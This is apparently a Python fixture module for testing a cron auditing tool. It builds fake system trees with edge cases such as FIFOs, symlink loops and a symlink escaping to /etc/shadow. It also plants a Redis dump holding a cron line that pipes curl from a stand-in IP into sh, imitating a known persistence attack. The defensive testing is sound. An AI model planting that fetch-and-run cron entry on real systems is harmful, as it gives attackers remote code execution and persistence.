"""Fixture-tree builders shared by the cron unit and integration tests."""
import os
from conftest import write  # noqa: E402,F401  (re-exported for the cron tests)

PASSWD = (
    "root:x:0:0:root:/root:/bin/bash\n"
    "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    "alice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
    "bob:x:1001:1001:Bob:/home/bob:/bin/bash\n"
)
GROUP = "root:x:0:\ncrontab:x:101:\nalice:x:1000:\nbob:x:1001:\n"
ALICE, BOB, CRONTAB_GID = 1000, 1001, 101

RDB_HEAD = (b"REDIS0009\xfa\x09redis-ver\x067.0.15\xfa\x0aredis-bits\xc0\x40"
            b"\xfe\x00\xfb\x01\x00\x00\x03foo\x40\x50")
RDB_PAYLOAD = b"\n\n*/1 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n\n"


def mkdir(root, rel, mode=0o755, uid=0, gid=0):
    path = os.path.join(str(root), rel.lstrip("/"))
    os.makedirs(path, exist_ok=True)
    os.chown(path, uid, gid)
    os.chmod(path, mode)
    return path


def symlink(root, rel, target):
    path = os.path.join(str(root), rel.lstrip("/"))
    os.makedirs(os.path.dirname(path), exist_ok=True)
    os.symlink(target, path)
    return path


def base_tree(root):
    """A minimal system: passwd, group, empty cron and boot directories."""
    write(root, "etc/passwd", PASSWD)
    write(root, "etc/group", GROUP)
    for rel in ("etc/cron.d", "etc/cron.hourly", "etc/cron.daily", "etc/cron.weekly",
                "etc/cron.monthly", "etc/init.d", "var/spool/cron"):
        mkdir(root, rel)
    write(root, "etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    return root


def seed_000(root, size=None):
    """Seed 000: a Redis dump in the cronie spool, named after no user."""
    base_tree(root)
    data = RDB_HEAD + RDB_PAYLOAD + bytes(range(256)) * 16
    path = write(root, "var/spool/cron/dump.rdb", data)
    if size:
        os.truncate(path, size)
    return path


def install_family(root, family):
    binary = {"debian": "usr/sbin/cron", "cronie": "usr/sbin/crond"}[family]
    write(root, binary, "#!/bin/sh\n", mode=0o755)


def hostile_tree(root, entries=50):
    """FIFO, /dev/zero link, loop, broken link, escaping link, 4 GiB sparse file,
    invalid UTF-8, a 1 MB single line and a directory with ``entries`` files."""
    base_tree(root)
    os.mkfifo(os.path.join(str(root), "etc/cron.d/fifo"))
    symlink(root, "etc/cron.d/zero", "/dev/zero")
    symlink(root, "etc/cron.d/loop-a", "loop-b")
    symlink(root, "etc/cron.d/loop-b", "loop-a")
    symlink(root, "etc/cron.d/dangling", "/nonexistent/file")
    symlink(root, "etc/cron.daily/escape", "../../../../../../../../etc/shadow")
    sparse = write(root, "var/spool/cron/crontabs/huge", b"")
    os.truncate(sparse, 4 << 30)
    write(root, "etc/cron.d/badutf8", b"# \xff\xfe\xc3\x28 caf\xe9\n0 * * * * root /bin/true \xff\n")
    write(root, "etc/cron.d/longline", b"0 * * * * root echo " + b"A" * (1 << 20) + b"\n")
    for index in range(entries):
        write(root, "etc/cron.weekly/job%04d" % index, "#!/bin/sh\n", mode=0o755)
    return root
